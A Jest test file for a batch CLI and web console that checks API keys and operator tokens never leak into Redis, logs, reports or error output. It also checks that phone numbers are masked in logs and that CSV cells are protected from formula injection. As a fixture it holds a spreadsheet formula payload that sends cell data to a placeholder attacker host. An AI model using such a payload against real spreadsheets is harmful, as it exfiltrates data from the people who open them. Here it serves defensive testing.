/**
 * Secrets and personal data. A batch with failures, retries, 429s and rejected rows runs with
 * a recognisable API key; then everything it left behind is searched for the key: every Redis key under the prefix
 * (read by type and as DUMP bytes, snapshotted before, during and after the run so BullMQ job data and failed-attempt
 * records are included), every report file, everything the logger wrote, the stdout/stderr of `run --json`
 * subprocesses (good key and wrong key), and the error messages. Logs must not hold a full customer number. CSV
 * reports must not start a cell with a formula character. Batch keys must expire after RESULTS_TTL_DAYS.
 * Console operators' tokens and their hashes appear in no log, audit entry, page, API answer, report or Redis key.
 */
import { execFile } from 'node:child_process';
import { appendFileSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

import { afterEach, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';

import { resolveConfig } from '../../src/config/config.js';
import { allBatchKeys } from '../../src/store/keys.js';
import { makeLogger } from '../../src/config/logger.js';
import { deletePrefix, makeTestEnv, phones, type TestEnv, uniquePrefix } from '../helpers/harness.js';
import { dumpPrefix, keysUnder } from '../helpers/redis-dump.js';
import { closeTestConsole, CONSOLE_TOKEN, startTestConsole, type TestConsole } from '../helpers/console.js';
import { eventually } from '../helpers/eventually.js';
import { spawnCli } from '../helpers/processes.js';

const KEY = 'key_CANARY_s3cr3tValue_9f8e7d6c5b4a';
const WRONG_KEY = 'key_WRONG_c4n4ryValue_1a2b3c4d5e6f';
/** Distinctive parts of both keys: a key cut, re-encoded or quoted still contains one of them. */
const SECRET_MARKS = ['s3cr3tValue', 'c4n4ryValue', KEY, WRONG_KEY];
const WABA = '919000000000';
const TTL_DAYS = 3;
const CLI = fileURLToPath(new URL('../../dist/src/main.js', import.meta.url));
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
const FORMULA_START = /^[=+\-@\t\r]/;

let env: TestEnv | undefined;
let con: TestConsole | undefined;
const otherPrefixes: string[] = [];
afterEach(async () => {
  for (const p of otherPrefixes.splice(0)) await deletePrefix(env?.config.redisUrl ?? 'redis://127.0.0.1:6379', p);
  await closeTestConsole(con, env);
  con = undefined;
  env = undefined;
});

/** Fails naming where a secret was found (without printing the text it was found in). */
function expectNoSecret(where: string, text: string): void {
  const found = SECRET_MARKS.filter((mark) => text.includes(mark));
  expect({ where, found }).toEqual({ where, found: [] });
}

/** Full customer numbers in a text, also when written with spaces, dashes, dots, brackets or a plus. */
function fullNumbersIn(text: string, numbers: readonly string[]): string[] {
  const digitsOnly = text.replace(/[\s\-().+]/g, '');
  return numbers.filter((n) => digitsOnly.includes(n));
}

function filesUnder(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true, recursive: true })
    .filter((d) => d.isFile())
    .map((d) => join(d.parentPath, d.name));
}

/** A CSV with every kind of outcome: successes, 422/404, exhausted 503 and timeout, a retry, rejected rows, formulas. */
function scenario() {
  const p = phones(40, 30_000);
  const notes = new Map<string, string>([
    [p[0]!, HYPERLINK],
    [p[3]!, '+SUM(1,2)'],
    [p[4]!, '@cmd'],
    [p[5]!, '-2+3'],
  ]);
  const quote = (v: string): string => `"${v.replace(/"/g, '""')}"`;
  const lines = [
    'phone,waba,notes',
    ...p.map((n, i) => `${i % 3 === 0 ? `+${n.slice(0, 2)} ${n.slice(2, 7)} ${n.slice(7)}` : n},${WABA},${quote(notes.get(n) ?? `note ${i}`)}`),
  ];
  lines.push(`=1+2,${WABA},bad phone`, `call me,${WABA},bad phone`, `12345,${WABA},short`);
  const faults = {
    rejectNumbers: p.slice(0, 3),
    notFoundNumbers: [p[3]!],
    flaky: { [p[4]!]: 5, [p[6]!]: 1 },
    timeoutNumbers: { [p[5]!]: 5 },
    storm429: 3,
  };
  return { numbers: p, csv: `${lines.join('\n')}\n`, faults, failed: 6, rejected: 3 };
}

function runCli(args: string[], vars: Record<string, string>, cwd: string): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, [CLI, ...args], { cwd, env: { PATH: process.env.PATH ?? '', ...vars }, timeout: 40_000 }, (error, stdout, stderr) =>
      resolve({ code: error ? Number((error as { code?: number }).code ?? 1) : 0, stdout, stderr }),
    );
  });
}

describe('secrets and personal data', () => {
  it('the API key appears nowhere (Redis incl. job data, reports, logs, errors); logs mask numbers; CSV cells are formula-safe; batch keys expire', async () => {
    const { numbers, csv, faults, failed, rejected } = scenario();
    const logs: string[] = [];
    const logger = makeLogger('trace', 'bulk-unassign', { write: (line: string) => void logs.push(line) });
    env = await makeTestEnv({
      api: { apiKey: KEY, faults },
      config: { apiKey: KEY, maxAttempts: 2, requestTimeoutMs: 300, resultsTtlDays: TTL_DAYS, rateLimitMax: 0 },
      logger,
    });
    const prefix = env.config.queuePrefix;
    const batch = await env.ingestCsv(env.csv('input.csv', csv));
    // Before any worker runs, every job (with its data) is in Redis.
    const snapshots = [(await dumpPrefix(env.ctx.redis, prefix)).text];
    expect(snapshots[0]).toContain(`\\"k\\":\\"p:${numbers[1]}@${WABA}\\"`); // a job's data, JSON inside the job hash

    env.worker();
    env.worker();
    let running = true;
    const watcher = (async () => {
      while (running) {
        snapshots.push((await dumpPrefix(env!.ctx.redis, prefix)).text);
        await new Promise((r) => setTimeout(r, 100));
      }
    })();
    const done = await env.waitFor(batch.id, ['finished'], 40_000);
    running = false;
    await watcher;
    snapshots.push((await dumpPrefix(env.ctx.redis, prefix)).text);
    expect(done.counts).toMatchObject({ valid: 40, rejected, failed, succeeded: 40 - failed });
    // The run had retries and 429s, and the snapshots caught a job between attempts (failedReason/stacktrace stored).
    expect(done.rateLimited).toBe(3);
    expect(snapshots.some((s) => s.includes('"failedReason":"HTTP 503: Service Unavailable"'))).toBe(true);

    snapshots.forEach((text, i) => expectNoSecret(`redis snapshot ${i}`, text));
    const reports = filesUnder(env.config.reportsDir);
    expect(reports.map((f) => f.slice(f.lastIndexOf('/') + 1)).sort()).toEqual(['failed.csv', 'rejected.csv', 'summary.json', 'summary.md']);
    for (const file of reports) expectNoSecret(file, readFileSync(file, 'utf8'));

    // Logs: captured, about this batch, and free of the key and of full customer numbers.
    const logText = logs.join('');
    expect(logText).toContain('transient failure: will retry');
    expect(logText).toContain('429 from API: pausing all workers');
    expect(logText).toContain('batch finished');
    expect(logText).toMatch(/"chat":"p:9198\*+\d\d@919000000000"/); // masked, not absent
    expectNoSecret('logs', logText);
    expect(fullNumbersIn(logText, numbers)).toEqual([]);

    // Formula injection: no cell of either CSV report starts with = + - @ tab or CR.
    const dir = join(env.config.reportsDir, batch.id);
    const failedRows = parse(readFileSync(join(dir, 'failed.csv'), 'utf8'), { relax_column_count: true }) as string[][];
    const rejectedRows = parse(readFileSync(join(dir, 'rejected.csv'), 'utf8'), { relax_column_count: true }) as string[][];
    expect(failedRows).toHaveLength(1 + failed);
    expect(rejectedRows).toHaveLength(1 + rejected);
    for (const cell of [...failedRows, ...rejectedRows].flat()) expect(cell).not.toMatch(FORMULA_START);
    const n0 = numbers[0]!;
    expect(failedRows.find((r) => r[2] === `'${HYPERLINK}`)).toEqual([
      `'+${n0.slice(0, 2)} ${n0.slice(2, 7)} ${n0.slice(7)}`,
      WABA,
      `'${HYPERLINK}`,
      '422',
      'HTTP 422: User is not a member of the team',
    ]);
    expect(failedRows.map((r) => r[2])).toEqual(expect.arrayContaining(["'+SUM(1,2)", "'@cmd", "'-2+3"]));
    expect(rejectedRows.find((r) => r[2] === "'=1+2")).toBeDefined();
    // Numbers written as "+91 …" are guarded too, and still read back as the same chat (see normalisePhone).
    expect(failedRows.find((r) => r[0]?.startsWith("'+91"))).toBeDefined();

    // Retention: every batch key expires after RESULTS_TTL_DAYS, and nothing of the batch is left without a TTL.
    const ttlMs = TTL_DAYS * 86_400_000;
    const batchKeys = allBatchKeys(env.ctx.keys.batch(batch.id));
    const present = (await Promise.all(batchKeys.map(async (k) => ((await env!.ctx.redis.exists(k)) ? k : null)))).filter((k) => k !== null);
    expect(present).toEqual(
      expect.arrayContaining([
        env.ctx.keys.batch(batch.id).batch,
        env.ctx.keys.batch(batch.id).results,
        env.ctx.keys.batch(batch.id).chats,
        env.ctx.keys.batch(batch.id).rejected,
      ]),
    );
    for (const key of present) {
      const pttl = await env.ctx.redis.pttl(key);
      expect({ key, ok: pttl > ttlMs - 60_000 && pttl <= ttlMs }).toEqual({ key, ok: true });
    }
    for (const key of (await keysUnder(env.ctx.redis, prefix)).filter((k) => k.includes(batch.id))) {
      expect({ key, pttl: (await env.ctx.redis.pttl(key)) > 0 }).toEqual({ key, pttl: true });
    }
    // What outlives the retention (BullMQ's own keys: the events stream, meta) holds no phone number: job ids
    // are hashes of the chat, not the number.
    const bullKeys = (await keysUnder(env.ctx.redis, prefix)).filter((k) => !k.startsWith(`{${prefix}}:batch:`));
    const bullText = (
      await Promise.all(
        bullKeys.map(async (k) => `${k} ${JSON.stringify((await env!.ctx.redis.type(k)) === 'stream' ? await env!.ctx.redis.xrange(k, '-', '+') : '')}`),
      )
    ).join('\n');
    expect(bullText).toContain(batch.id); // the events stream does mention the batch's jobs
    expect(fullNumbersIn(bullText, numbers)).toEqual([]);
  });

  it('`run --json` (right key, then a wrong one) and config errors never print the key; CLI logs mask numbers', async () => {
    const { numbers, csv, faults } = scenario();
    env = await makeTestEnv({ api: { apiKey: KEY, faults } });
    const file = env.csv('input.csv', csv);
    const prefix = uniquePrefix('secrets-cli');
    otherPrefixes.push(prefix);
    const vars = {
      REDIS_URL: env.config.redisUrl,
      QUEUE_PREFIX: prefix,
      DOUBLETICK_BASE_URL: env.api.url,
      REPORTS_DIR: join(env.dir, 'cli-reports'),
      LOG_LEVEL: 'trace',
      MAX_ATTEMPTS: '2',
      REQUEST_TIMEOUT_MS: '300',
      RATE_LIMIT_MAX: '0',
      DUPLICATE_WINDOW_HOURS: '0',
    };

    const good = await runCli(['run', file, '--json'], { ...vars, DOUBLETICK_API_KEY: KEY }, env.dir);
    expect(good.code).toBe(1); // finished, with failed and rejected rows
    const batch = JSON.parse(good.stdout) as { id: string; status: string; counts: { failed: number } };
    expect(batch.status).toBe('finished');
    expect(batch.counts.failed).toBe(6);
    expectNoSecret('run --json stdout', good.stdout);
    expectNoSecret('run --json stderr', good.stderr);
    expect(good.stderr).toContain('transient failure: will retry'); // the logs did reach stderr
    expect(fullNumbersIn(good.stderr, numbers)).toEqual([]);
    for (const f of filesUnder(vars.REPORTS_DIR)) expectNoSecret(f, readFileSync(f, 'utf8'));

    const wrong = await runCli(['run', file, '--json', '--force'], { ...vars, DOUBLETICK_API_KEY: WRONG_KEY }, env.dir);
    expect(wrong.code).toBe(3); // stopped
    expect(JSON.parse(wrong.stdout)).toMatchObject({ status: 'stopped', reason: expect.stringContaining('DOUBLETICK_API_KEY') });
    expectNoSecret('wrong key stdout', wrong.stdout);
    expectNoSecret('wrong key stderr', wrong.stderr);
    expect(fullNumbersIn(wrong.stderr, numbers)).toEqual([]);
    expectNoSecret('redis after both CLI runs', (await dumpPrefix(env.ctx.redis, prefix)).text);

    // Config errors about the key describe it without echoing it.
    for (const bad of [`Bearer ${KEY}`, `${KEY} extra`, `key ${KEY}`]) {
      const error = (() => {
        try {
          resolveConfig({ apiKey: bad }, {});
          return undefined;
        } catch (e) {
          return e as Error;
        }
      })();
      expect(error?.name).toBe('ConfigError');
      expectNoSecret(`config error for ${bad.slice(0, 6)}…`, `${error?.message} ${error?.stack}`);
    }
    const cliError = await runCli(['run', file], { ...vars, DOUBLETICK_API_KEY: `Bearer ${KEY}` }, env.dir);
    expect(cliError.code).toBe(2);
    expectNoSecret('config error stderr', cliError.stderr + cliError.stdout);
  });

  it('console tokens and their hashes appear in no log, audit entry, page, API answer, report or Redis key', async () => {
    env = await makeTestEnv();
    const usersFile = join(env.dir, 'console-users');
    const add = async (name: string): Promise<string> => {
      const child = spawnCli(env!, ['console-user', 'add', name, '--file', usersFile]);
      expect((await child.exited).code).toBe(0);
      return /token: (\S+)/.exec(child.output())![1]!;
    };
    const tokens = [await add('alice'), await add('bob')];
    const hashes = readFileSync(usersFile, 'utf8').match(/[0-9a-f]{64}/g)!;
    expect(hashes).toHaveLength(2);
    const secrets = [...tokens, ...hashes, CONSOLE_TOKEN];
    const expectNone = (where: string, text: string): void => {
      const found = secrets.filter((secret) => text.includes(secret)).map((secret) => `${secret.slice(0, 4)}…`);
      expect({ where, found }).toEqual({ where, found: [] });
    };
    con = await startTestConsole(env, { extraEnv: { CONSOLE_USERS_FILE: usersFile, LOG_LEVEL: 'trace' } });
    const texts: [string, string][] = [];
    const fetchText = async (path: string, init: RequestInit & { auth?: boolean } = {}): Promise<Response> => {
      const response = await con!.request(path, init);
      texts.push([`${init.method ?? 'GET'} ${path} → ${response.status}`, `${JSON.stringify([...response.headers])} ${await response.text()}`]);
      return response;
    };
    const form = (fields: Record<string, string>) => fetchText('/login', { auth: false, method: 'POST', body: new URLSearchParams(fields) });
    const login = await form({ name: 'alice', token: tokens[0]! });
    const cookie = /bu_console=[^;]+/.exec(login.headers.get('set-cookie') ?? '')![0];
    await form({ token: `${tokens[1]!}x` }); // a near miss
    await form({ name: tokens[1]!, token: 'wrong-token-0123456789' }); // a token typed into the name field
    await fetchText('/login?token=' + tokens[0]!, { auth: false }); // not a demo console: the URL token is ignored
    await fetchText('/api/batches', { auth: false, headers: { authorization: `Bearer ${hashes[0]!}` } }); // a hash is not a token
    const upload = new FormData();
    upload.append('file', new Blob([`phone,waba\n${phones(4, 900).join(`,${WABA}\n`)},${WABA}\n`], { type: 'text/csv' }), 'ops.csv');
    const created = await fetchText('/api/batches', { auth: false, method: 'POST', body: upload, headers: { cookie } });
    expect(created.status).toBe(201);
    const batchId = (JSON.parse(texts.at(-1)![1].slice(texts.at(-1)![1].indexOf('{"'))) as { id: string }).id;
    const done = await env.waitFor(batchId, ['finished'], 30_000);
    expect(done.createdBy).toBe('alice');
    // A users file broken while the console runs: logged by line number, never by content.
    appendFileSync(usersFile, `mallory:${hashes[0]!}zz\n`);
    // The console re-reads the file when a request is checked (at most once a second).
    await eventually(
      async () => {
        await con!.request('/api/batches');
        return con!.process.output().includes('console users file refused');
      },
      { message: 'the broken users file to be logged' },
    );
    expect(con.process.output()).toContain('line 3');
    writeFileSync(usersFile, readFileSync(usersFile, 'utf8').split('\n').slice(0, 2).join('\n') + '\n');
    for (const path of [
      '/',
      '/login',
      '/assets/app.js',
      '/api/batches',
      `/api/batches/${batchId}`,
      `/api/audit`,
      `/api/audit?actor=alice`,
      '/api/schedules',
      '/metrics',
    ]) {
      await fetchText(path, { auth: false, headers: { authorization: `Bearer ${tokens[1]!}` } });
    }
    for (const file of ['summary.json', 'summary.md']) await fetchText(`/api/batches/${batchId}/reports/${file}`, { auth: false, headers: { cookie } });
    const summary = JSON.parse(readFileSync(join(env.config.reportsDir, batchId, 'summary.json'), 'utf8'));
    expect(summary).toMatchObject({ createdBy: 'alice', actions: [{ actor: 'alice', action: 'upload' }] });

    for (const [where, text] of texts) expectNone(where, text);
    expectNone('console output (trace logs)', con.process.output());
    expectNone('audit trail', JSON.stringify(await env.ctx.audit.list()));
    expect((await env.ctx.audit.list()).map((e) => e.action)).toEqual(expect.arrayContaining(['console-login', 'console-login-failed', 'upload']));
    expectNone('redis', (await dumpPrefix(env.ctx.redis, env.config.queuePrefix)).text);
    for (const file of filesUnder(env.config.reportsDir)) expectNone(file, readFileSync(file, 'utf8'));

    // A malformed users file refused at start-up names the line, not its content.
    const broken = join(env.dir, 'broken-users');
    writeFileSync(broken, `alice:${hashes[0]!}\nbob ${hashes[1]!}\n`);
    const error = (() => {
      try {
        resolveConfig({}, { CONSOLE_USERS_FILE: broken });
        return undefined;
      } catch (e) {
        return e as Error;
      }
    })();
    expect(error?.message).toContain('line 2');
    expectNone('users file config error', `${error?.message} ${error?.stack}`);
  });
});
